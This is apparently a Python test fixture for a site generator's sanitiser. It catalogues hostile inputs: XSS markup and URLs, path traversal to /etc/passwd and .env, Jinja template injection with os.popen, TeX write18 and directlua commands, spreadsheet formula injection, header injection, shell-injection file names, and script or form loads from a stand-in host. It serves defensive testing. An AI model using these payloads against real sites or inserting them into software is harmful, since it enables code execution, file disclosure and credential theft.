"""Hostile values: what a stranger could write into a post, by the kind of harm."""

from __future__ import annotations

#: Addresses that run or read something if a browser takes them for what they say.
_SCHEMES = (
    "javascript:XSS()", "JavaScript:XSS()", "JAVASCRIPT:XSS()", "vbscript:XSS()",
    "data:text/html,<script>XSS()</script>", "data:text/html;base64,PHNjcmlwdD5YU1M8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=XSS()>", "data:application/xhtml+xml,XSS", "DATA:text/html,XSS",
    "blob:https://example.org/XSS", "filesystem:https://example.org/XSS", "file:///etc/passwd",
    "FILE:/etc/passwd", "view-source:javascript:XSS()", "feed:javascript:XSS()", "jar:XSS!/x",
    "livescript:XSS()", "mocha:XSS()", "about:XSS", "chrome://XSS", "ms-its:XSS", "wyciwyg:XSS",
    "intent://XSS#Intent;end", "ws://XSS", "ftp://XSS", "javascript:/*--></title>*/XSS()",
    "javascript://example.org/%0aXSS()", "javascript://%0aXSS()", "javascript:XSS()//https://x.org",
    "https:XSS", "http:/XSS", "https:///XSS", "http:", "https://",
    "http://[::1/XSS", "//[XSS/x", "http://[v1.x]XSS/", "https://x.org:99999999/XSS",
)  # fmt: skip
_BLANKS = (
    " ", "\t", "\n", "\r", "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x0e", "\x1b", "\x1f", "  \t ",
    "\x7f", "\x85", "\xa0", "\xad", "\u1680", "\u180e", "\u2000", "\u200b", "\u200d", "\u200e",
    "\u2028", "\u2029", "\u202e", "\u2060", "\u3000", "\ufeff", "\ufff9",
)  # fmt: skip
_INSIDE = (
    "java\tscript:XSS()", "java\nscript:XSS()", "java\rscript:XSS()", "j\ta\nv\ra\tscript:XSS()",
    "javascript\t:XSS()", "javascript\n:XSS()", "java\x00script:XSS()", "java\u200bscript:XSS()",
    "java&Tab;script:XSS()", "java&NewLine;script:XSS()", "javascript&colon;XSS()",
    "&#106;avascript:XSS()", "&#x6A;avascript:XSS()", "&#0000106avascript:XSS()",
    "java&#x09;script:XSS()", "java&#10;script:XSS()", "javascript&#58;XSS()",
    "javascript&#x3A;XSS()", "javascript\uff1aXSS()", "\uff4aavascript:XSS()",
    "java\\script:XSS()", "java%0ascript:XSS()", "\\x6aavascript:XSS()",
)  # fmt: skip
ADDRESSES = (*_SCHEMES, *(f"{blank}javascript:XSS()" for blank in _BLANKS), *_INSIDE)

#: Paths of a file outside the source folder; ``{up}`` leads from a post to its folder,
#: ``{absolute}`` is its whole path, ``{host}`` the same without the first slash.
PATHS = (
    "{up}/secret.png", "./{up}/secret.png", "a/../{up}/secret.png", "{absolute}", "/{absolute}",
    "//{host}", "///{host}", "////{host}", "/./{absolute}", "/../{up}/secret.png", "file://{absolute}",
    "file:{absolute}", "file:/{absolute}", "FILE:///{host}", "file://localhost{absolute}",
    "%2e%2e/{up}/secret.png", "..%2f{up}/secret.png", "%2e%2e%2f{up}/secret.png", "/%2f{host}",
    "%2f{host}", "%252e%252e/{up}/secret.png", "@site/{up}/secret.png", "@site//{host}",
    "@site/../{up}/secret.png", "pathname:///{up}/secret.png", "pathname:////{host}",
    "pathname://{absolute}", "~/secret.png", "..\\{up}\\secret.png", "\\\\{host}", "\\\\?\\{host}",
    "/\\{host}", "C:\\secret.png", "C:/secret.png", "c:secret.png", "//localhost{absolute}",
    "link.png", "/posts/link.png", "./link.png", "folder/secret.png", "/posts/folder/secret.png",
    "/folder/secret.png", "chain.png", "hidden.png", "/.git/config", "../.git/config", "../.env",
    "/.env", "pipe.png", "circle.png", "//{host}?x=.png", "{up}/secret.png#x", "{up}/secret.png?x",
    "path:{up}/secret.png", "project:{up}/secret.png", "many.*", "local.png",
)  # fmt: skip

#: HTML that runs, loads, sends or covers something.
MARKUP = (
    "<script>XSS()</script>", "<SCRIPT>XSS()</SCRIPT>", "<script src=https://XSS.org/x.js></script>",
    "<script/x>XSS()</script>", "<script\n>XSS()</script>", "<scr<script>ipt>XSS()</script>",
    '<img src="x.png" onerror="XSS()">', "<img src=x.png onerror=XSS()>", "<img/src=x/onerror=XSS()>",
    '<img src="x.png"\nonerror="XSS()">', '<img src="x.png" ONERROR="XSS()">',
    '<img src="javascript:XSS()">', '<img src="x.png" srcset="https://XSS.org/x.png 1x">',
    '<svg onload="XSS()"></svg>', "<svg/onload=XSS()>", "<svg><script>XSS()</script></svg>",
    '<svg><a href="javascript:XSS()"><text>x</text></a></svg>',
    '<svg><a xlink:href="javascript:XSS()"><path d="M0 0"/></a></svg>',
    '<svg><set attributeName="onload" to="XSS()"/></svg>',
    '<svg><animate attributeName="href" values="javascript:XSS()"/></svg>',
    '<svg><foreignObject><iframe src="javascript:XSS()"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,XSS"/></svg>', '<math href="javascript:XSS()">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:XSS()">x</maction></math>',
    '<iframe src="javascript:XSS()"></iframe>', '<iframe srcdoc="<script>XSS()</script>"></iframe>',
    '<iframe src="https://XSS.org/"></iframe>', '<iframe src="//XSS.org"></iframe>',
    '<frameset><frame src="javascript:XSS()"></frameset>', '<object data="javascript:XSS()"></object>',
    '<object data="//XSS.org/x.swf"></object>', '<embed src="javascript:XSS()">',
    '<applet code="XSS"></applet>', '<form action="javascript:XSS()"><input type="submit"></form>',
    '<form action="https://XSS.org/"><input name="password"></form>',
    '<button formaction="javascript:XSS()">x</button>', '<input autofocus onfocus="XSS()">',
    '<select onchange="XSS()"></select>', '<textarea onfocus="XSS()"></textarea>',
    '<meta http-equiv="refresh" content="0;url=javascript:XSS()">', '<base href="https://XSS.org/">',
    '<link rel="stylesheet" href="https://XSS.org/x.css">', '<link rel="import" href="//XSS.org">',
    "<style>@import 'https://XSS.org/x.css';</style>", "<style>*{background:url(//XSS.org)}</style>",
    '<video src="javascript:XSS()" onerror="XSS()"></video>', '<video poster="javascript:XSS()"></video>',
    '<audio src="javascript:XSS()"></audio>', '<video><source onerror="XSS()" src="x"></video>',
    '<details open ontoggle="XSS()"><summary>x</summary></details>', '<marquee onstart="XSS()">x</marquee>',
    '<body onload="XSS()">', '<body background="javascript:XSS()">', '<table background="javascript:XSS()"></table>',
    '<a href="javascript:XSS()">x</a>', "<a href=' javascript:XSS()'>x</a>", "<a href=javascript:XSS()>x</a>",
    '<a href="java&#x0A;script:XSS()">x</a>', '<a href="https://x.org" ping="https://XSS.org">x</a>',
    '<a href="#" onclick="XSS()">x</a>', "<a/href=javascript:XSS()>x</a>", '<area href="javascript:XSS()">',
    '<map><area href="javascript:XSS()"></map>', '<portal src="https://XSS.org"></portal>',
    "<template><script>XSS()</script></template>", "<noscript><img src=x onerror=XSS()></noscript>",
    "<xmp><script>XSS()</script></xmp>", "<title><script>XSS()</script></title>",
    "<plaintext><script>XSS()</script>", '<div style="background:url(https://XSS.org/x.png)">x</div>',
    '<div style="position:fixed;inset:0">x</div>', '<p style="width:expression(XSS())">x</p>',
    "<!--><script>XSS()</script>-->", "<!--><img src=x onerror=XSS()>", "<![CDATA[<script>XSS()</script>]]>",
    "<?xml-stylesheet href='javascript:XSS()'?>", "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    '<a href="x" title="`><script>XSS()</script>">x</a>', "</title><script>XSS()</script>",
    '<div data-script="https://XSS.org/x.js" class="pr-search pr-finder">x</div>',
    '<img src="x.png" style="content:url(https://XSS.org/x)">', "<x onclick=XSS()>x</x>",
    '<a href="&#x6A;avascript:XSS()">x</a>', '<a\thref="javascript:XSS()">x</a>',
    '<bgsound src="javascript:XSS()">', '<image src="x" onerror="XSS()">', '<isindex action="javascript:XSS()">',
)  # fmt: skip

#: Values of styles that load a file or hide what they are.
STYLES = (
    "url(https://XSS.org/x)", "url('//XSS.org/x')", "URL(https://XSS.org/x)", "u\\72l(https://XSS.org/x)",
    "\\75rl(https://XSS.org/x)", "\\000075rl(//XSS.org/x)", "ur/**/l(//XSS.org/x)", "url/**/(//XSS.org/x)",
    "image-set('https://XSS.org/x' 1x)", "image-set(url(//XSS.org/x) 1x)", "IMAGE-SET('//XSS.org/x' 1x)",
    "-webkit-image-set('https://XSS.org/x' 1x)", "-webkit-image-set(url(//XSS.org/x) 1x)",
    "image('https://XSS.org/x')", "src('https://XSS.org/x')", "cross-fade('//XSS.org/x', red)",
    "-webkit-cross-fade(url(//XSS.org/x), red)", "element(#XSS)", "-moz-element(#XSS)", "paint(XSS)",
    "expression(XSS())", "expr/**/ession(XSS())", "javascript:XSS()", "red; background: url(//XSS.org)",
    "red} body{background:url(//XSS.org)}", "red;@import '//XSS.org'", "@import '//XSS.org'",
    "-moz-binding(XSS)", "attr(XSS url)", "env(XSS)", "var(--x, url(//XSS.org/x))", "red/*", "red<!--",
    "'</style><script>XSS()</script>'", '"//XSS.org"', "linear-gradient(url(//XSS.org))", "red\\;XSS",
    "calc(url(//XSS.org))", "filter(url(//XSS.org), blur(1px))", "symbols('//XSS.org')", "red !XSS!",
)  # fmt: skip

#: What makes an SVG file active.
DRAWINGS = (
    "<script>XSS()</script>", '<script href="https://XSS.org/x.js"/>', '<g onload="XSS()"/>',
    '<a href="javascript:XSS()"><text>x</text></a>', '<a xlink:href=" javascript:XSS()"><text>x</text></a>',
    '<a xlink:href="java&#10;script:XSS()"><text>x</text></a>',
    '<set attributeName="href" to="javascript:XSS()"/>', '<animate attributeName="xlink:href" values="javascript:XSS()"/>',
    '<set attributeName="onclick" to="XSS()"/>', '<use href="data:image/svg+xml,XSS"/>',
    '<image href="data:image/svg+xml;base64,XSS"/>', '<a href="data:text/html,XSS"><text>x</text></a>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//XSS.org"/></foreignObject>',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="XSS()"/></foreignObject>',
    '<foreignObject><x:script xmlns:x="http://www.w3.org/1999/xhtml">XSS()</x:script></foreignObject>',
    '<foreignObject><x:form xmlns:x="http://www.w3.org/1999/xhtml" action="//XSS.org"/></foreignObject>',
    '<x:script xmlns:x="http://www.w3.org/2000/svg">XSS()</x:script>',
    '<g style="@import \'//XSS.org\'"/>', '<handler type="text/ecmascript">XSS()</handler>',
    '<g xml:base="javascript:XSS()"/>', "<g><unclosed>", "<SCRIPT>XSS()</SCRIPT>",
)  # fmt: skip

#: What ends the text, attribute, expression or file in which a value is written.
TEXTS = (
    '"><script>XSS()</script>', "'><img src=x onerror=XSS()>", "--><script>XSS()</script>",
    "--!><script>XSS()</script>", "]]><script>XSS()</script>", "</script><script>XSS()</script>",
    "<!--<script>XSS()</script>", "</style><script>XSS()</script>", "</textarea><script>XSS()</script>",
    "</template><script>XSS()</script>", "</svg><script>XSS()</script>", "</math><img src=x onerror=XSS()>",
    "?><script>XSS()</script>", '"/><script xmlns="http://www.w3.org/1999/xhtml">XSS()</script>',
    "&lt;script&gt;XSS()&lt;/script&gt;", "&amp;lt;script&amp;gt;XSS()", "&#60;script&#62;XSS()&#60;/script&#62;",
    "\\u003cscript>XSS()</script>", "\\x3cscript>XSS()</script>", "+ADw-script+AD4-XSS()", "\u2028XSS()//",
    '";XSS();//', "';XSS();//", "`-XSS()-`", "${XSS()}", '" onmouseover="XSS()', "' onfocus='XSS()' autofocus='",
    "` onerror=XSS() `", 'x" style="background:url(//XSS.org)', "&x;&XSS;", "&lt;!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\uff1cscript\uff1eXSS()\uff1c/script\uff1e", "<ſcript>XSS()</ſcript>", "<\x00script>XSS()</script>",
    "javascript:XSS()", "|safe", "<b onclick=XSS()>|<i></b>",
)  # fmt: skip
#: What runs where a text becomes a template of Jinja, Liquid, Hugo, Vue or JavaScript.
TEMPLATES = (
    "{{XSS()}}", "{%XSS()%}", "{{ 7*191 }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}",
    "{{ cycler.__init__.__globals__.os.popen('echo XSSRAN').read() }}", "{{ config.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{# XSS #}", "#{XSS}", "<%= XSS() %>", "{{< XSS >}}",
    "{{% XSS %}}", '{{% readfile "/etc/passwd" %}}', '{{< readfile "/etc/passwd" >}}',
    "{% raw %}<script>XSS()</script>{% endraw %}", "{% highlight x %}</pre><script>XSS()</script>{% endhighlight %}",
    "%(XSS)s", "%s%s%n", "{0.__class__}", "{XSS!r:>9999999}", "$XSS ${XSS}", "|XSS|", "[[=XSS]]", "~~~{eval-rst}",
)  # fmt: skip
#: Commands of TeX, Texinfo and roff, and directives of reStructuredText and MyST.
COMMANDS = (
    "\\input{/etc/passwd}", "\\input/etc/passwd ", "\\include{/etc/passwd}", "\\openin5=/etc/passwd",
    "\\immediate\\write18{XSS}", "\\write18{XSS}", "\\href{javascript:XSS()}{x}", "\\url{javascript:XSS()}",
    "\\catcode`\\%=12", "\\csname input\\endcsname{/etc/passwd}", "\\directlua{os.execute('XSS')}",
    "\\includegraphics{/etc/passwd}", "\\lstinputlisting{/etc/passwd}", "\\verbatiminput{/etc/passwd}",
    "\\end{document}\\input{/etc/passwd}", "\\end{sphinxVerbatim}\\input{/etc/passwd}", "^^5cinput{/etc/passwd}",
    "$\\input{/etc/passwd}$", "$$\\input{/etc/passwd}$$", "$\\def\\x{\\x}\\x$", "$\\unicode{x3cscript}$",
    "$\\text{\\input{/etc/passwd}}$", "$\\verb|\\input{/etc/passwd}|$", "}\\input{/etc/passwd}{", "%\n\\input{/etc/passwd}",
    "@include /etc/passwd", "\n@include /etc/passwd\n", "@verbatiminclude /etc/passwd", "@html<script>XSS()</script>",
    "@end menu", "@bye", "@macro x", "x, y: z. (XSS)Top", ".so /etc/passwd", "\n.so /etc/passwd\n", "'so /etc/passwd",
    ".sy XSS", ".pso XSS", "\\X'ps: exec XSS'", "\\n[XSS]\\*[XSS]", ".. include:: /etc/passwd",
    "\n\n.. include:: /etc/passwd\n\n", "\n\n.. raw:: html\n\n   <script>XSS()</script>\n\n",
    ".. raw:: html\n   :file: /etc/passwd", "\n\n.. csv-table::\n   :file: /etc/passwd\n\n", ":raw-html:`<script>XSS()</script>`",
    "`x <javascript:XSS()>`__", "|x| .. |x| image:: javascript:XSS()", ".. _x: javascript:XSS()", ":download:`/etc/passwd`",
    "\n```{include} /etc/passwd\n```\n", "```{raw} html\n<script>XSS()</script>\n```", "{download}`/etc/passwd`",
    "\n:::{literalinclude} /etc/passwd\n:::\n", "\n---\ndraft: false\n---\n", "import x from '/etc/passwd'",
)  # fmt: skip
#: What makes a second entry or field of a bibliography, a formula of a table, a header, a card.
RECORDS = (
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-1+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://XSS.org","x")', "\t=1+1", "\r=1+1", "\uff1d1+1", " =1+1", '","=1+1', "a;=1+1",
    "}\n}\n@article{XSS, title={XSS}", "},\n note={XSS", "@string{x=XSS}", "#XSS#", "x\nER  - \n\nTY  - JOUR\nTI  - XSS",
    "x\r\nTY  - JOUR", "x\nEND:VCARD\nBEGIN:VCARD", "x\r\nSet-Cookie: XSS", "x\r\n\r\n<script>XSS()</script>",
    "x %0d%0aLocation: //XSS.org", "</entry><entry><title>XSS</title></entry>", "</item></channel><item>XSS</item>",
    "</url><url><loc>https://XSS.org</loc></url>", '"},{"id":"XSS","content_html":"<script>XSS()</script>"},{"x":"',
    "Sitemap: https://XSS.org/x.xml", "x\nSitemap: https://XSS.org/x.xml\nDisallow: /", "# XSS\n- [XSS](javascript:XSS())",
)  # fmt: skip
#: Names and words that a terminal, a shell, a file system or a reader's eye takes for others.
NAMES = (
    "-rf", "--help", "-o/etc/XSS", "--output=/tmp/XSS", "$(touch XSS)", "`touch XSS`", "; touch XSS", "| touch XSS",
    "&& touch XSS", "* .[!.]*", "~root", "CON", "NUL.txt", "aux", "COM1", "x.", "x ", ".", "..", "...", "~", ".git",
    ".htaccess", "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "1e999", "-0",
    "\x1b[31mXSS\x1b[0m", "\x1b]0;XSS\x07", "\x9b31mXSS", "a\x08XSS", "XSS\rok", "\u202eSSX\u202c", "\u2066XSS\u2069",
    "\u200f\u202bXSS", "X\u200bS\u200bS", "\u2060XSS\ufeff", "\U000e0058\U000e0053", "X\u0300\u0301" * 40, "\ud800XSS", "XSS\udfff",
    "\ufffe\uffff", "\U0010ffff", "\u0130XSS\u0131", "ﬀXSS", "\u1e9e", "XSS" * 400, "\u306f" * 300, " ", "\u3000",
    "index", "../XSS", "..%2fXSS", "%2e%2e%2fXSS", "%00", "a%00b", "..\\XSS", "\\\\XSS\\share", "C:\\XSS", "//XSS", "#XSS", "?XSS",
    "%XSS", "%", "%zz", "a%", "&XSS=1", "file:///etc/passwd", "/etc/passwd", "/proc/self/environ", "/dev/zero",
)  # fmt: skip
